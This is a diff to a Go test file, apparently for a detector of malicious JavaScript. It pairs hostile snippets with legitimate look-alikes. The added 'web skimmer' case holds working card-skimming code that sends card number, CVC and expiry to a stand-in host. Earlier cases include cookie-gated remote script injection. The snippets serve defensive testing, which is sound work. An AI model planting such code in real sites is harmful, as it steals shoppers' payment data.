@@ -32,6 +32,9 @@ var _0x5a6b=function(_0x1b2c3d,_0x4e5f60){_0x1b2c3d=_0x1b2c3d-0x0;var _0x7a8b9c=
 		{"cookie gate", `if(document.cookie.indexOf("_seen=")==-1){document.cookie="_seen=1;path=/";var s=document.createElement("script");s.src="https://cdn.example.net/x.js";document.head.appendChild(s)}`, "gated-injection"},
 		{"many _0x names", strings.Repeat("var _0x1a2b3c=_0x4d5e6f(1);", 12), "hex-identifiers"},
 		{"escaped text", `var m = "\x48\x65\x6c\x6c\x6f\x20\x77\x6f\x72\x6c\x64\x21\x48\x65\x6c\x6c\x6f\x20\x77\x6f\x72\x6c\x64\x21\x48\x65\x6c\x6c\x6f"; console.log(m);`, "escape-moderate"},
+		{"web skimmer", `if (location.href.indexOf("checkout") > -1) { document.querySelector("button").addEventListener("click", function () {
+var d = {n: document.getElementById("cc_number").value, c: document.getElementById("cc_cid").value, e: document.getElementById("cc_exp_month").value};
+new Image().src = "https://cdn-analytic.example/i.gif?d=" + btoa(JSON.stringify(d)); }); }`, "card-skimmer"},
 		// Legitimate look-alikes.
 		{"utf-16 surrogates", `function cp(c){c-=0x10000;return String.fromCharCode(0xD800+(c>>10),0xDC00+(c&0x3FF))} eval(s)`, ""},
 		{"base64 decoder", `function d(s){var o="",i=0;for(;i<s.length;i+=4){o+=String.fromCharCode((a<<2)|(b>>4))}return o}`, ""},
@@ -40,6 +43,8 @@ var _0x5a6b=function(_0x1b2c3d,_0x4e5f60){_0x1b2c3d=_0x1b2c3d-0x0;var _0x7a8b9c=
 		{"char-code script", `document.write(String.fromCharCode(60,115,99,114,105,112,116,32,115,114,99,61,104,116,116,112,58,47,47,120,62));`, "decoded-sink"},
 		{"analytics snippet", `document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));`, ""},
 		{"word arrays", `var days = ["Sun","Mon","Tue","Wed"], keys = ["top","body","left"]; var m = ["e","v"];`, ""},
+		{"card form validation", `form.addEventListener("submit", function (e) { var n = document.getElementById("card-number").value, c = document.getElementById("cvc").value;
+if (!luhn(n)) { e.preventDefault(); return; } fetch("/api/pay", {method: "POST", body: JSON.stringify({n: n, c: c})}); });`, ""},
 		{"xxtea library", `function encrypt(v,k){var delta=0x9E3779B9,sum=0;/* rounds */return v} function toStr(a){return String.fromCharCode.apply(null,a)}`, ""},
 		{"IE sniffing", `var ie = navigator.userAgent.indexOf("MSIE") > -1; if (ie) { document.body.className += " ie"; } var f = document.createElement("iframe"); f.style.display = "none";`, ""},
 		{"navigation from a parameter", `location.href = decodeURIComponent(params.get("next")); if (location.href === x) {}`, ""},
